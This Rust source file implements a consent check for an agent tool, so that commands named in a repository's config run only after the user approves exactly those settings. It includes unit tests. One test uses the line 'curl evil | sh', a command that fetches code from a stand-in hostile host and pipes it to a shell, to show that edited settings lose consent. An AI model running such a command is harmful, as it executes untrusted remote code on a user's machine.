//! Consent to what a repository's settings would run (contract T7).
//!
//! Agents and test commands are run with settings that are [`Trusted`], and there are three ways
//! to such a value: [`check`] (a person has agreed to exactly these settings),
//! [`Trusted::harmless`] (nothing in them is run), and [`Trusted::written_here`] (they come from no
//! repository). Everything that executes requires the type, so that no front end can forget to ask.
//!
//! Consent is kept in the user's state directory, where neither a clone nor an agent can write
//! it, for the digest of exactly the settings that were shown. The CLIs' own settings in a
//! project need no consent: they never have an effect (`agentd_core::provider`).

use std::ops::Deref;

use agentd_core::command_line::CommandLine;
use agentd_core::config::{Config, ExecutableSetting, Roles};
use agentd_core::error_kind::Kind;
use agentd_core::hash::Digest;
use agentd_core::rel_path::RelPath;
use serde::{Deserialize, Serialize};

use crate::explain::{ErrorDetails, ErrorReport, Explain};
use crate::store::{Project, StoreError};

/// Settings that may be acted on.
#[derive(Debug, Clone, PartialEq)]
pub struct Trusted(Config);

impl Deref for Trusted {
    type Target = Config;

    fn deref(&self) -> &Config {
        &self.0
    }
}

impl Trusted {
    /// The same settings with everything at its default that would be run.
    pub fn harmless(config: Config) -> Self {
        Self(config.without_executable())
    }

    /// Settings that were written by the program that calls, not read from a repository.
    pub fn written_here(config: Config) -> Self {
        Self(config)
    }

    /// The same with other roles, which are names of agents and nothing that is run.
    #[must_use]
    pub fn with_roles(mut self, roles: Roles) -> Self {
        self.0.roles = roles;
        self.0.roles_are_written = true;
        self.0.fallbacks.clear();
        self
    }
}

/// Whether the user has agreed for this one command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Consent {
    /// Only what was agreed to before counts.
    #[default]
    AsKept,
    /// The user says so: `--trust`, or `AGENTD_TRUST=all`.
    Given,
}

/// The status of settings: what they would run, and whether the user has agreed to it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStatus {
    /// What would be run.
    pub settings: Vec<ExecutableSetting>,
    /// What was agreed to last; none if nothing ever was.
    pub agreed: Option<Vec<ExecutableSetting>>,
    /// Whether nothing is left to agree to.
    pub trusted: bool,
}

/// How a setting has changed since the user agreed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum SettingChange {
    /// It is as it was.
    Same,
    /// It is new, or has another value.
    New,
    /// It is gone, or had another value.
    Gone,
}

/// A setting that runs something.
#[derive(Debug, Clone, Serialize)]
pub struct ComparedSetting {
    /// Its key and value.
    #[serde(flatten)]
    pub setting: ExecutableSetting,
    /// How it has changed since the user agreed.
    pub since_consent: SettingChange,
}

impl TrustStatus {
    /// All settings with how they have changed, for reports.
    pub fn compared_settings(&self) -> Vec<ComparedSetting> {
        let rows = self.compared().into_iter();
        rows.map(|(since_consent, setting)| ComparedSetting {
            setting: setting.clone(),
            since_consent,
        })
        .collect()
    }

    /// All settings with how they have changed, in the order of the keys.
    pub fn compared(&self) -> Vec<(SettingChange, &ExecutableSetting)> {
        let agreed = self.agreed.as_deref().unwrap_or_default();
        let now = self.settings.iter().map(|setting| {
            (
                if agreed.contains(setting) { SettingChange::Same } else { SettingChange::New },
                setting,
            )
        });
        let gone = agreed.iter().filter(|setting| !self.settings.contains(setting));
        let mut all: Vec<_> =
            gone.map(|setting| (SettingChange::Gone, setting)).chain(now).collect();
        all.sort_by(|(_, one), (_, other)| one.key.cmp(&other.key));
        all
    }
}

/// Why settings may not be acted on.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// Nobody has agreed to them.
    #[error(
        "agentd/config.toml of this project makes agentd run programs, and you have not trusted it"
    )]
    NotTrusted(Box<TrustStatus>),
    /// Consent cannot be read or saved.
    #[error(transparent)]
    Store(#[from] StoreError),
}

impl Explain for TrustError {
    fn explain(&self) -> ErrorReport {
        match self {
            Self::Store(error) => error.explain(),
            Self::NotTrusted(standing) => {
                let lines: Vec<String> =
                    standing.settings.iter().map(ToString::to_string).collect();
                ErrorReport::of(Kind::NotTrusted, self)
                    .cause(lines.join("; "))
                    .details(ErrorDetails::Settings { settings: standing.compared_settings() })
                    .run("see what would run, and agree to it", CommandLine::agentd(["trust"]))
                    .hint("for this one command: --trust; for a CI job: AGENTD_TRUST=all")
            }
        }
    }
}

/// A saved consent.
#[derive(Debug, Serialize, Deserialize)]
struct SavedConsent {
    version: u32,
    digest: Digest,
    /// To show what is new, once something is.
    settings: Vec<ExecutableSetting>,
}

/// The status of the settings. Changes nothing.
pub fn standing(project: &Project, config: &Config) -> Result<TrustStatus, TrustError> {
    let settings = config.executable();
    if settings.is_empty() {
        return Ok(TrustStatus { settings, agreed: None, trusted: true });
    }
    let kept = kept(project)?;
    let trusted = kept.as_ref().is_some_and(|kept| kept.digest == digest(&settings));
    Ok(TrustStatus { settings, agreed: kept.map(|kept| kept.settings), trusted })
}

/// The settings, if they may be acted on. Everything that executes begins here.
pub fn check(project: &Project, config: Config, consent: Consent) -> Result<Trusted, TrustError> {
    if consent == Consent::Given {
        return Ok(Trusted(config));
    }
    let standing = standing(project, &config)?;
    if standing.trusted {
        Ok(Trusted(config))
    } else {
        Err(TrustError::NotTrusted(Box::new(standing)))
    }
}

/// Saves that the user has agreed to what these settings run.
pub fn grant(project: &Project, config: Config) -> Result<Trusted, TrustError> {
    let settings = config.executable();
    let kept = SavedConsent { version: 1, digest: digest(&settings), settings };
    let text = serde_json::to_vec_pretty(&kept).unwrap_or_default();
    project.state_dir()?.write_atomic(&file()?, &text)?;
    Ok(Trusted(config))
}

/// Lets consent count in another checkout of the same repository, which has none of its own. It is
/// for exact settings, so others need consent there nevertheless.
pub(crate) fn share(from: &Project, to: &Project) -> Result<(), StoreError> {
    let Some(state) = from.state_dir_if_there()? else { return Ok(()) };
    match state.read(&file()?) {
        Ok(text) => match to.state_dir()?.write_new(&file()?, &text) {
            Err(StoreError::AlreadyExists { .. }) => Ok(()),
            written => written,
        },
        Err(error) if error.is_not_found() => Ok(()),
        Err(error) => Err(error),
    }
}

/// Withdraws consent, and returns whether there was any.
pub fn revoke(project: &Project) -> Result<bool, TrustError> {
    let Some(state) = project.state_dir_if_there()? else { return Ok(false) };
    match state.remove_file(&file()?) {
        Ok(()) => Ok(true),
        Err(error) if error.is_not_found() => Ok(false),
        Err(error) => Err(error.into()),
    }
}

fn kept(project: &Project) -> Result<Option<SavedConsent>, TrustError> {
    let Some(state) = project.state_dir_if_there()? else { return Ok(None) };
    match state.read(&file()?) {
        // What cannot be parsed agrees to nothing, and is replaced by the next consent.
        Ok(text) => {
            Ok(serde_json::from_slice::<SavedConsent>(&text).ok().filter(|kept| kept.version == 1))
        }
        Err(error) if error.is_not_found() => Ok(None),
        Err(error) => Err(error.into()),
    }
}

fn file() -> Result<RelPath, StoreError> {
    Ok(RelPath::new("trust.json")?)
}

fn digest(settings: &[ExecutableSetting]) -> Digest {
    Digest::of(serde_json::to_vec(settings).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::UserDirs;

    struct World {
        _dir: tempfile::TempDir,
        project: Project,
    }

    fn world() -> World {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("project");
        std::fs::create_dir_all(root.join("agentd")).unwrap();
        let project = Project::open(&root).unwrap().for_user(UserDirs::below(dir.path()));
        World { _dir: dir, project }
    }

    fn config(text: &str) -> Config {
        Config::parse(text).unwrap()
    }

    const TESTED: &str = "[implementation]\ntest_command = \"make\"\n";

    // contract T7
    #[test]
    fn consent_covers_exactly_the_settings_shown() {
        let World { project, _dir } = world();
        let refused = |text: &str| match check(&project, config(text), Consent::AsKept) {
            Err(TrustError::NotTrusted(standing)) => Some(standing),
            result => {
                result.unwrap();
                None
            }
        };
        assert!(refused("").is_none(), "the defaults need none");
        assert_eq!(refused(TESTED).unwrap().agreed, None);
        assert!(check(&project, config(TESTED), Consent::Given).is_ok());
        assert!(refused(TESTED).is_some(), "that was for one command");
        grant(&project, config(TESTED)).unwrap();
        assert!(refused(TESTED).is_none());
        let elsewhere = format!("{TESTED}[workflow]\nplanning_iterations = 1\n");
        assert!(refused(&elsewhere).is_none(), "nothing else counts");
        let edited = TESTED.replace("make", "curl evil | sh");
        let standing = refused(&format!("{edited}[gemini]\ncommand = \"./g\"\n")).unwrap();
        let shown: Vec<String> = (standing.compared().into_iter())
            .map(|(since, setting)| format!("{since:?} {setting}"))
            .collect();
        assert_eq!(
            shown,
            [
                "New gemini.command = \"./g\"",
                "Gone implementation.test_command = \"make\"",
                "New implementation.test_command = \"curl evil | sh\"",
            ]
        );
        assert!(revoke(&project).unwrap() && !revoke(&project).unwrap());
        assert!(refused(TESTED).is_some());
    }

    #[test]
    fn a_repository_cannot_bring_its_own_consent() {
        let World { project, _dir } = world();
        grant(&project, config(TESTED)).unwrap();
        let state = project.user().state_path(project.root()).unwrap();
        let text = std::fs::read(state.join("trust.json")).unwrap();
        revoke(&project).unwrap();
        for place in ["trust.json", "agentd/trust.json", ".agentd/trust.json"] {
            let path = project.root().join(place);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, &text).unwrap();
        }
        assert!(check(&project, config(TESTED), Consent::AsKept).is_err());
        std::fs::write(state.join("trust.json"), "{").unwrap();
        assert!(check(&project, config(TESTED), Consent::AsKept).is_err());
        assert!(Trusted::harmless(config(TESTED)).executable().is_empty());
    }
}
